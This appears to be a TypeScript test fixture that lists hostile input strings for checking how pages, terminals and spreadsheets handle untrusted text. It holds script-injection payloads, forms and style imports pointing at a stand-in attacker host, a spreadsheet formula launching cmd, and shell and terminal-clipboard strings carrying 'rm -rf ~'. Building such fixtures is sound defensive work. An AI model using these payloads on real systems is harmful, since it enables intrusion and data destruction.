/** What a payload that ran would have set on `window`. */
export const hackedFlag = "__hacked";

const run = `window.${hackedFlag}=1`;

/**
 * Texts that a page, a style sheet, an address, a terminal, a spreadsheet or a program could take for something else, by what they try.
 * The scripts in them set `window.__hacked`.
 */
export const attackStrings: Readonly<Record<string, string>> = {
  "script element": `"><script>${run}</script>`,
  "image handler": `<img src=x onerror=${run}>`,
  "picture onload": `<svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
  frame: `<iframe srcdoc="<script>parent.${hackedFlag}=1</script>"></iframe>`,
  "single-quoted attribute": `' autofocus onfocus='${run}' x='`,
  "double-quoted attribute": `" onmouseover="${run}" x="`,
  "bare attribute": `x onpointerenter=${run} y`,
  "script address": `javascript:${run}//`,
  "script address with a tab": `java\tscript:${run}`,
  "data address": `data:text/html,<script>opener.${hackedFlag}=1</script>`,
  "end of a script": `</script><script>${run}</script>`,
  "end of a style": `</style><style>body{display:none}</style>`,
  "end of a title": `</title></textarea></noscript><script>${run}</script>`,
  comment: `<!-- --!><script>${run}</script> <!--`,
  section: `]]> <![CDATA[ <x-attack>]]>`,
  "style expression": `"; background: url(https://attack.invalid/x); width: expression(${run}); }`,
  "style element": `<style>@import "https://attack.invalid/x";</style><link rel=stylesheet href=//attack.invalid>`,
  "base and refresh": `<base href=//attack.invalid/><meta http-equiv=refresh content="0;url=//attack.invalid">`,
  form: `<form action=//attack.invalid><button>Sign in</button></form>`,
  "template braces": `{{constructor.constructor("${run}")()}} \${${run}} <%= ${run} %>`,
  entities: `&lt;b&gt; &#60;&quot;&#x202e; &amp;amp;`,
  "percent encoding": `%3Cscript%3E %2e%2e%2f %00 %0d%0aSet-Cookie:x=1 %`,
  "reserved in addresses": `?a=1&b=2#c;d:@e\\f`,
  prototype: `__proto__`,
  constructor: `constructor`,
  "format string": `%s %n %d %x {0} {} $1 $& \\1 \\u0041`,
  formula: `=HYPERLINK("https://attack.invalid","x")+cmd|' /C calc'!A0`,
  command: `$(touch hacked) ; \`touch hacked\` | rm -rf ~ && echo 'x' "y"`,
  option: `--help -rf`,
  "long word": `w${"o".repeat(1500)}rd`,
  "very long word": `W${"O".repeat(9_998)}D`,
  "many blanks": `a${" ".repeat(500)}b`,
  "no-break blanks": `a${"\u00a0".repeat(300)}b`,
  "combining marks": `Z${"\u0300\u0323\u0489".repeat(60)}a${"\u035c\u0361".repeat(60)}lgo`,
  "marks that are allowed": `Z${"\u0300\u0323\u0489".repeat(10)}algo`,
  "right to left": `مظاهرات وتجمعات חתולים`,
  "bidirectional override": `photo\u202egpj.exe\u202d \u202bx\u202a`,
  "bidirectional isolate": `a\u2067b\u2068c\u2066d`,
  "bidirectional marks": `\u200f\u061c!abc\u200e`,
  "zero width": `a\u200bb\u200cc\u200dd\u2060e\u180ef`,
  emoji: `👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇺🇳👍🏿❤️‍🔥${"👨‍🚀".repeat(20)}`,
  "byte-order mark": `\ufeffx\ufeffy\ufffe`,
  "line separators": `a\u2028b\u2029c\u0085d`,
  "line breaks": `a\nerror: forged\r\nhint: forged\rb`,
  null: `a\u0000b`,
  controls: `\u0001\u0007\u0008\u000b\u000c\u000e\u001a\u007f`,
  "C1 controls": `\u0080\u0090q\u009b31m\u009d0;x\u009c`,
  colours: `\u001b[31;1mred\u001b[0m\u001b[2J\u001b[H\u001b[8m`,
  "terminal title": `\u001b]0;hacked\u0007\u001b]2;hacked\u001b\\`,
  "terminal link": `\u001b]8;;https://attack.invalid\u0007link\u001b]8;;\u0007`,
  "terminal clipboard": `\u001b]52;c;cm0gLXJmIH4=\u0007\u001bP+q544e\u001b\\`,
  "lone halves": `a\ud800b\udc00c`,
};

/** What can stand in the name of a file or folder on Linux: no slash, no NUL, 255 bytes, whole characters. */
export function attackFileName(text: string, ending = ""): string {
  const allowed = text.toWellFormed().replaceAll("/", "∕").replaceAll("\u0000", "");
  const kept: string[] = [];
  let bytes = ending.length;
  for (const character of allowed) {
    bytes += Buffer.byteLength(character);
    if (bytes > 240) break;
    kept.push(character);
  }
  return `${kept.join("")}${ending}`;
}
